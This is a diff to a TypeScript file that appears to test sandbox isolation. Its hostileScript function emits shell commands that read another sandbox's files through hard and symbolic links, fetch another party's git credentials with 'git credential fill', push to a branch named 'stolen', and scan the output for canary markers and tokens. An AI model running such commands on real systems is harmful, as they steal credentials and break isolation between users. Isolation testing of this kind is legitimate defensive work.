@@ -6,13 +6,15 @@
 export interface Surroundings {
   /** Task and execution that run beside it. */
   readonly other: string
+  /** Name of a host that somebody else's credentials are for. */
+  readonly gitServer: string
   /** Addresses that it asks. */
   readonly urls: readonly string[]
 }
 
 const MARKERS = String.raw`slipmark-[o]f-[a-z-]+-[0-9a-f]{16}|eyJ[A-Za-z0-9_-]{20,}\.eyJ`
 
-export function hostileScript({ other, urls }: Surroundings): string {
+export function hostileScript({ other, gitServer, urls }: Surroundings): string {
   return `
 look() {
   printf '%s: %s\\n' "$1" "$(grep -aoE '${MARKERS}' | sed -E 's/^slipmark-of-(.*)-[0-9a-f]*$/\\1/; s/^eyJ.*/account-token/' | sort -u | tr '\\n' ' ')"
@@ -32,7 +34,7 @@ for target in /slipway/sandboxes/${other}/repo/left.txt /slipway/executions/${ot
   ln "$target" hard 2>/dev/null && cat hard; ln -sf "$target" soft && cat soft; rm -f hard soft
 done 2>/dev/null | look links
 {
-  printf 'protocol=http\\nhost=git-server.slipway.svc\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill
+  printf 'protocol=http\\nhost=${gitServer}\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill
   git config --list --show-origin; git push origin HEAD:refs/heads/stolen
 } > "$TMPDIR/git" 2>&1; look git < "$TMPDIR/git"
 NODE_TLS_REJECT_UNAUTHORIZED=0 node -e '
